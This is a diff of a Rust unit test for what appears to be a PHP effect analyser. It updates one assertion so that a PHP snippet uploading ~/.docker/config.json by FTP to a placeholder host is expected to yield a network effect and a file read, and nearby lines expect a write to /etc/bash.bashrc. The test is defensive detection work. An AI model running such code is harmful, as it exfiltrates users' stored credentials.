@@ -318,10 +318,9 @@ fn files_opened_as_objects_or_sent_by_ftp() {
         ["tee /etc/bash.bashrc"]
     );
     assert_eq!(
-        effects("$c = ftp_connect('h'); ftp_put($c, 'd.json', getenv('HOME') . '/.docker/config.json', FTP_BINARY);")
-            .iter()
-            .filter(|e| e.starts_with("cat"))
-            .collect::<Vec<_>>(),
-        ["cat ~/.docker/config.json"]
+        effects(
+            "$c = ftp_connect('h'); ftp_put($c, 'd.json', getenv('HOME') . '/.docker/config.json', FTP_BINARY);"
+        ),
+        ["curl tcp://h", "cat ~/.docker/config.json"]
     );
 }
